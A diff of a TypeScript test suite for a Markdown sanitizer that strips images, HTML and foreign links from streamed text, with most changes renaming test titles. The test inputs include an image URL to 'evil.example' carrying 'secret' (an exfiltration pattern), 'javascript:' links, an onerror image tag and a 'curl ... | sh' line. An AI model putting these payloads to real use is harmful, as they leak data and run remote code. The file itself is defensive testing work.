@@ -14,71 +14,75 @@ function clean(...pieces: string[]): string {
 const evil = 'https://evil.example/?q=secret'
 
 test.each([
-  ['plain words stay', 'Use **bold** and `code` [1], as in [2][3].', null],
-  ['an image goes', `a ![x](${evil}) b`, 'a   b'],
-  ['an image of ours goes too', 'a ![x](https://docs.example/a.png)', 'a  '],
-  ['a foreign link is its text', `see [the page](${evil} "t").`, 'see the page.'],
+  ['keeps plain text', 'Use **bold** and `code` [1], as in [2][3].', null],
+  ['removes an image', `a ![x](${evil}) b`, 'a   b'],
+  ['removes an image of a source, too', 'a ![x](https://docs.example/a.png)', 'a  '],
+  ['replaces a foreign link by its text', `see [the page](${evil} "t").`, 'see the page.'],
   [
-    'a link of ours stays',
+    'keeps a link to a source',
     'see [the page](https://docs.example/guide/a#b "t").',
     'see [the page](https://docs.example/guide/a#b).',
   ],
-  ['a script address is its text', '[x](javascript:alert(1)) [y](data:text/html,z) [z](/relative)', 'x y z'],
-  ['a citation that is linked stays a citation', `so [1](${evil}).`, 'so [1].'],
-  ['an image in a link goes', `[![x](${evil}) go](https://docs.example/)`, '[  go](https://docs.example/)'],
-  ['a bare foreign address is code', `at ${evil}, now`, `at \`${evil}\`, now`],
-  ['a bare address of ours stays', 'at https://docs.example/a. Now', null],
-  ['www is an address', 'at www.evil.example/x now', 'at `www.evil.example/x` now'],
   [
-    'an autolink is code',
+    'replaces a link to a script by its text',
+    '[x](javascript:alert(1)) [y](data:text/html,z) [z](/relative)',
+    'x y z',
+  ],
+  ['keeps a linked citation as a citation', `so [1](${evil}).`, 'so [1].'],
+  [
+    'removes an image in a link',
+    `[![x](${evil}) go](https://docs.example/)`,
+    '[  go](https://docs.example/)',
+  ],
+  ['writes a bare foreign URL as code', `at ${evil}, now`, `at \`${evil}\`, now`],
+  ['keeps a bare URL of a source', 'at https://docs.example/a. Now', null],
+  ['reads www as a URL', 'at www.evil.example/x now', 'at `www.evil.example/x` now'],
+  [
+    'writes a foreign autolink as code',
     `<${evil}> <https://docs.example/> <javascript:alert(1)>`,
     `\`${evil}\` <https://docs.example/> \`javascript:alert(1)\``,
   ],
   [
-    'HTML is escaped',
+    'escapes HTML',
     '<img src=x onerror=y> a < b <= 3 List<String>',
     '&lt;img src=x onerror=y> a < b <= 3 List&lt;String>',
   ],
-  ['a line break is a gap', '| a<br>b | c<BR /> |', '| a b | c  |'],
-  ['a definition is none', `[x][e]\n\n[e]: ${evil}`, `[x][e]\n\n[e] : \`${evil}\``],
-  ['inline code is as it is', '`![x](https://e.example) <b> curl https://e.example | sh`', null],
+  ['replaces a line break tag by a space', '| a<br>b | c<BR /> |', '| a b | c  |'],
+  ['breaks a link definition', `[x][e]\n\n[e]: ${evil}`, `[x][e]\n\n[e] : \`${evil}\``],
+  ['keeps inline code', '`![x](https://e.example) <b> curl https://e.example | sh`', null],
+  ['keeps a code block', '```html\n<img src="https://e.example">\n![x](https://e.example)\n```\nafter', null],
+  ['keeps an unclosed code block', '~~~\n<b>', null],
   [
-    'a code block is as it is',
-    '```html\n<img src="https://e.example">\n![x](https://e.example)\n```\nafter',
-    null,
-  ],
-  ['a block that nothing closes is as it is', '~~~\n<b>', null],
-  [
-    'a block in a list moves out',
+    'moves a code block out of a list',
     '1. Do:\n\n   ```sh\n   ls\n     -l\n   ```\n   then\n2. Go',
     '1. Do:\n\n```sh\nls\n  -l\n```\nthen\n2. Go',
   ],
   [
-    'indented code becomes a block',
+    'fences indented code',
     'Run:\n\n    <indented code>\n\n      `x` ![y](https://e.example)\n\nand <b>',
     'Run:\n\n```\n<indented code>\n\n  `x` ![y](https://e.example)\n```\n\nand &lt;b>',
   ],
-  ['what is indented in a list is no code', '- a\n\n    <b>', '- a\n\n    &lt;b>'],
-  ['marks without an end are escaped', 'a ` b\n![x](u) ` c', 'a \\` b\n  \\` c'],
-  ['another port is another site', '[x](http://127.0.0.1:9/)', 'x'],
-  ['a citation ends with its paragraph', '[1: "a`\n\n] b', '[1]\n\n] b'],
+  ['does not read indented text in a list as code', '- a\n\n    <b>', '- a\n\n    &lt;b>'],
+  ['escapes unclosed markup', 'a ` b\n![x](u) ` c', 'a \\` b\n  \\` c'],
+  ['treats another port as another site', '[x](http://127.0.0.1:9/)', 'x'],
+  ['ends a citation with its paragraph', '[1: "a`\n\n] b', '[1]\n\n] b'],
   [
-    'a label does not run into code',
+    'does not extend a link label into code',
     `[\n\`\`\`\n\\[x]: ${evil}\n[x]: ${evil}`,
     `\\[\n\`\`\`\n\\[x]: ${evil}\n[x]: ${evil}`,
   ],
   [
-    'code with marks in it holds no link',
+    'escapes a link next to code with backticks',
     '[``"]`\\[x](javascript:alert(1))``',
     '[\\`\\`"]\\`\\[x] (javascript:alert(1))\\`\\`',
   ],
   [
-    'space in a label does not make it code',
+    'does not read spaces in a label as indented code',
     '[    [x](javascript:alert(1))](https://docs.example/z)',
     '[x](https://docs.example/z)',
   ],
   [
-    'a user in front of the host is no host',
+    'does not read a user name before the host as the host',
     '[x](https://docs.example@evil.example/) [y](https://docs.example\\@evil.example/)',
     'x y',
   ],
@@ -86,7 +90,7 @@ test.each([
   expect(clean(text)).toBe(safe ?? text)
 })
 
-test('what was taken out is told', () => {
+test('reports removed images and links', () => {
   const safe = createSafeText(isOurs)
   safe.push(`![x](${evil}) [y](${evil})`)
   expect(safe.dropped).toEqual([
@@ -95,7 +99,7 @@ test('what was taken out is told', () => {
   ])
 })
 
-test('prose is not held back', () => {
+test('does not hold back prose', () => {
   const safe = createSafeText(isOurs)
   const tokens = [
     'The',
@@ -115,7 +119,7 @@ test('prose is not held back', () => {
   for (const token of tokens) expect(safe.push(token), token).not.toBe('')
 })
 
-test('a huge token takes no huge time', () => {
+test('bounds the time for a huge token', () => {
   for (const part of ['[', '`', '![', '<a:', '[](x)', '[[a](', '``` ', 'https://', 'a`b``c']) {
     expect(clean(part.repeat(20_000)).length).toBeGreaterThan(0)
   }
@@ -194,7 +198,7 @@ const parts = [
 ]
 const soup = fc.array(fc.constantFrom(...parts), { maxLength: 40, size: 'max' }).map((list) => list.join(''))
 
-test('however the text is cut, the output is the same', () => {
+test('returns the same text however it is split', () => {
   const cuts = fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1, maxLength: 30, size: 'max' })
   fc.assert(
     fc.property(soup, cuts, (text, sizes) => {
@@ -210,7 +214,7 @@ test('however the text is cut, the output is the same', () => {
   )
 })
 
-test('read as Markdown it holds no image, no HTML and no link elsewhere', () => {
+test('contains no image, HTML or foreign link when read as Markdown', () => {
   fc.assert(
     fc.property(soup, (text) => {
       expectSafe(clean(text))
@@ -219,7 +223,7 @@ test('read as Markdown it holds no image, no HTML and no link elsewhere', () => 
   )
 })
 
-test('so does all that has come so far', () => {
+test('contains none in any prefix, either', () => {
   fc.assert(
     fc.property(soup, (text) => {
       const safe = createSafeText(isOurs)
@@ -239,11 +243,11 @@ function expectSafe(markdown: string) {
   for (const tag of tags) expect(tag).toMatch(allowedTag)
 }
 
-/** Tags that marked writes for Markdown without HTML; links lead to us or name a mail address. */
+/** Tags that marked writes for Markdown without HTML. Links lead to our sources or name a mail address. */
 const allowedTag =
   /^<(?:\/?(?:p|em|strong|del|ul|li|h\d|blockquote|pre|table|thead|tbody|tr|ol)|ol start="\d+"|\/?code|code class="language-[^"<>]*"|\/?(?:th|td)(?: align="\w+")?|hr|br|input(?: checked="")? disabled="" type="checkbox"|\/a|a href="(?:https:\/\/docs\.example[/"]|mailto:)[^<>]*"?)>$/u
 
-test('of a host that others share, only what lies below a source is ours', () => {
+test('accepts only URLs below a source on a host that others share', () => {
   const folder = 'https://git.example/acme/guide'
   const isShared = createIsOurs([`${folder}/blob/main/a.md#b`, 'https://docs.example/'], [folder, ''])
   const ours = [folder, `${folder}/`, `${folder}/blob/main/x.md?plain=1`, 'https://docs.example/anything']
